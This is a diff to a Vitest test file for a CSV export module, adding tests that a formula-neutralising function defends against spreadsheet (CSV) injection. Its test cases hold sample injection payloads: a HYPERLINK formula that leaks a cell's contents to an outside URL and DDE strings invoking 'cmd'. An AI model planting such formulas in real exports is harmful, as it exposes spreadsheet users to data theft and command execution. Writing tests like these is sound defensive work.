@@ -1,7 +1,7 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { seededRandom } from '$lib/data/testing/random';
-import { BOM, csvDocument, csvField, csvRow } from './csv';
+import { BOM, csvDocument, csvField, csvRow, neutraliseFormula } from './csv';
 
 describe('csv', () => {
 	it('quotes only what needs it', () => {
@@ -49,9 +49,75 @@ describe('csv documents', () => {
 		expect(text).toContain('# cite me\r\n');
 		const parsed = Papa.parse<string[]>(text.slice(1), { comments: '#', skipEmptyLines: true });
 		expect(parsed.errors).toEqual([]);
+		// Cells are text after a round trip, and the formula-like one keeps its neutralising quote.
 		expect(parsed.data).toEqual([
 			header,
-			...rows.map((row) => row.map((value) => (value === null ? '' : String(value))))
+			['IQ-SY-001', 'هجين', 'Strike, "claimed" by Iraq;\r\nsecond line', '3'],
+			['IQ-SY-002', 'الباغوز فوقاني', '', ''],
+			["'=1+1", ' ', '"', '']
+		]);
+	});
+
+	it('writes every value as given with formulas: raw', () => {
+		const text = csvDocument(['a'], [['=1+1'], ['@SUM(A1)']], [], { formulas: 'raw' });
+		expect(text).toBe(`${BOM}a\r\n=1+1\r\n@SUM(A1)\r\n`);
+	});
+});
+
+describe('formula neutralisation (OWASP CSV injection)', () => {
+	it.each([
+		[
+			'=HYPERLINK("http://example.org/?leak="&A1,"click")',
+			`'=HYPERLINK("http://example.org/?leak="&A1,"click")`
+		],
+		["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+		['-2+3+cmd|x', "'-2+3+cmd|x"],
+		['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
+		['\t=1+1', "'\t=1+1"],
+		['\r=1+1', "'\r=1+1"],
+		['-', "'-"],
+		['- a list item', "'- a list item"],
+		['-5 km', "'-5 km"]
+	])('prefixes %j', (value, expected) => {
+		expect(neutraliseFormula(value)).toBe(expected);
+	});
+
+	it.each([['-5'], ['-3.2'], ['+7'], ['-1.5e3'], ['-.5'], ['Hajin'], ['a=b'], [' =1'], ['']])(
+		'leaves %j alone',
+		(value) => {
+			expect(neutraliseFormula(value)).toBe(value);
+		}
+	);
+
+	it('leaves numbers, booleans and blanks alone', () => {
+		expect([-5, -3.2, 0, true, null, undefined].map(neutraliseFormula)).toEqual([
+			-5,
+			-3.2,
+			0,
+			true,
+			null,
+			undefined
+		]);
+	});
+
+	it('neutralises header and body cells of a document, and the quoting still holds', () => {
+		const text = csvDocument(
+			['id', '=evil'],
+			[
+				['A1', '=HYPERLINK("x","y")'],
+				['A2', -5],
+				['A3', '-3.2'],
+				['A4', '@SUM(A1:A2)']
+			]
+		);
+		const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
+		expect(parsed.errors).toEqual([]);
+		expect(parsed.data).toEqual([
+			['id', "'=evil"],
+			['A1', `'=HYPERLINK("x","y")`],
+			['A2', '-5'],
+			['A3', '-3.2'],
+			['A4', "'@SUM(A1:A2)"]
 		]);
 	});
 });
